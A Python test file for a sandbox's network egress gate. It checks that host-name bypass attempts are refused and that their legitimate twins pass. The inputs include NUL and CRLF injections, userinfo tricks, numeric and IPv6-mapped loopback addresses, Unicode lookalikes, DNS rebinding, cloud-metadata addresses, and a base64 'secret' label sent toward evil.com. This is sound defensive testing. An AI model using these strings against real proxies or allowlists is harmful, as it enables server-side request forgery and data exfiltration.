"""Attacks with names, B62 to B69: each tried through the real gate, beside its twin that goes through."""

from __future__ import annotations

import pytest

from policies.errors import BadValueError
from policies.hosts import HostPattern
from sandbox.egress.addresses import parse_all
from sandbox.egress.errors import EgressDeniedError
from sandbox.egress.rules import Rule, RuleSet, Wanted
from tests.attacks.fake_outside import Rebinding, border_with, decision
from tests.attacks.through_proxy import say, socks_code, told
from tests.sandbox.egress.ground import Server, gate_for, loopback_proxy, rule, rules, serving

ODD = (
    "localhost\0.evil.com",
    "evil.com\0localhost",
    "localhost%00",
    "localhost\r\nx: y",
    "user@localhost",
    "localhost:80@evil.com",
    "loc alhost",
    "localhost\\.evil.com",
    "127.1",
    "0x7f.0.0.1",
    "2130706433",
    "0177.0.0.1",
    "127.0.0.1.",
    "0.0.0.0",  # noqa: S104 - a name to refuse
    "[::ffff:127.0.0.1]",
    "::ffff:127.0.0.1",
    "[::1%lo]",
    "::1%1",
    "localhost..",
    "LOCALHOST.evil.com",
    "\uff4cocalhost",
    "loc\u00adalhost",
    "localhost\u3002evil.com",
)


async def test_b62_b66_a_name_that_is_not_plain_is_refused_by_every_protocol() -> None:
    """NUL, controls, userinfo, zone ids, numeric and mapped forms: none of them reaches an allowed server."""
    server = Server()
    async with (
        serving(server),
        gate_for(rules(rule("localhost", server.port)), proxy=True) as kept,
        loopback_proxy(kept) as port,
    ):
        at = f":{server.port}"
        for name in ODD:
            raw = name.encode()
            connect = await say(
                port, b"CONNECT " + raw + at.encode() + b" HTTP/1.1\r\nHost: localhost\r\n\r\n"
            )
            assert told(connect) in {"protocol", "host"}, name
            absolute = await say(
                port,
                b"GET http://"
                + raw
                + at.encode()
                + b"/ HTTP/1.1\r\nHost: localhost"
                + at.encode()
                + b"\r\n\r\n",
            )
            assert told(absolute) in {"protocol", "host"}, name
            assert await socks_code(port, raw, server.port) == 2, name
        assert server.connections == 0

        for name in ("localhost", "LOCALHOST", "localhost."):
            fine = await say(
                port,
                f"GET http://{name}{at}/ HTTP/1.1\r\nHost: {name}{at}\r\nConnection: close\r\n\r\n".encode(),
            )
            assert fine.startswith(b"HTTP/1.1 200"), name
    assert all(event.code for event in kept.decided if event.verdict == "denied")


@pytest.mark.parametrize(
    "host", ["trusted.com.evil.com", "eviltrusted.com", "trusted.co", "x.trusted.com", "com"]
)
async def test_b63_a_name_matches_whole_and_on_the_border_of_a_label(host: str) -> None:
    decided = await decision(RuleSet(rules=(Rule(host=HostPattern.parse("trusted.com")),)), host)
    assert decided == "host"


async def test_b63_twin_the_name_itself_is_allowed() -> None:
    assert (
        await decision(RuleSet(rules=(Rule(host=HostPattern.parse("trusted.com")),)), "trusted.com")
        == "allowed"
    )


async def test_b64_a_url_in_a_query_or_before_an_at_is_not_its_host() -> None:
    server = Server()
    async with serving(server), gate_for(rules(rule("localhost", server.port))) as kept:
        for url in (
            f"http://localhost:{server.port}@evil.example/",
            "http://evil.example/?u=http://localhost/",
        ):
            with pytest.raises(EgressDeniedError):
                await kept.gate.request("GET", url)
        await kept.gate.request("GET", f"http://localhost:{server.port}/?u=http://evil.example/")
    assert server.connections == 1


@pytest.mark.parametrize(
    "pattern", ["*", "*.com", "*.co.uk", "*.github.io", "a*.example.com", "*.*.example.com", "**"]
)
def test_b65_a_wildcard_that_anyone_could_own_a_name_under_does_not_exist(pattern: str) -> None:
    with pytest.raises(BadValueError):
        HostPattern.parse(pattern)


async def test_b65_a_wildcard_excludes_the_name_itself() -> None:
    wild = RuleSet(rules=(Rule(host=HostPattern.parse("*.example.com")),))
    assert await decision(wild, "example.com") == "host"
    assert await decision(wild, "a.b.example.com") == "allowed"


EXAMPLE = RuleSet(rules=(Rule(host=HostPattern.parse("*.example.com")),))


async def test_b67_the_address_that_was_checked_is_the_one_that_is_dialled() -> None:
    """The name is asked for once; an answer that changes afterwards is never seen by the dialler."""
    resolver = Rebinding("1.1.1.1", "127.0.0.1")
    border, recorder = border_with(EXAMPLE, resolver)

    async with border.crossing(Wanted(scheme="tunnel", host="a.example.com", port=443)) as crossing:
        await crossing.connect(tls=False)
    with pytest.raises(EgressDeniedError) as denied:
        async with border.crossing(Wanted(scheme="tunnel", host="a.example.com", port=443)) as crossing:
            await crossing.connect(tls=False)

    assert denied.value.code == "address"
    assert resolver.asked == ["a.example.com"] * 2
    assert recorder.dialled == [parse_all(["1.1.1.1"])]


@pytest.mark.parametrize(
    "address", ["127.0.0.1", "10.0.0.1", "169.254.169.254", "100.64.1.1", "::1", "fd00::1"]
)
async def test_b68_an_allowed_name_at_a_private_address_is_not_dialled(address: str) -> None:
    border, recorder = border_with(EXAMPLE, Rebinding(address))

    with pytest.raises(EgressDeniedError):
        async with border.crossing(Wanted(scheme="tunnel", host="a.example.com", port=443)) as crossing:
            await crossing.connect(tls=False)

    assert recorder.dialled == []


async def test_b69_a_name_that_no_rule_allows_is_never_resolved_and_allowed_labels_count_as_sent() -> None:
    resolver = Rebinding("1.1.1.1")
    border, _ = border_with(EXAMPLE, resolver)
    with pytest.raises(EgressDeniedError):
        async with border.crossing(Wanted(scheme="tunnel", host="c2VjcmV0.evil.com", port=443)) as crossing:
            await crossing.connect(tls=False)
    assert resolver.asked == []

    async with border.crossing(Wanted(scheme="tunnel", host="c2VjcmV0.example.com", port=443)) as crossing:
        await crossing.connect(tls=False)
    assert resolver.asked == ["c2VjcmV0.example.com"]
    assert border.budget.session.sent_bytes == len("c2VjcmV0")
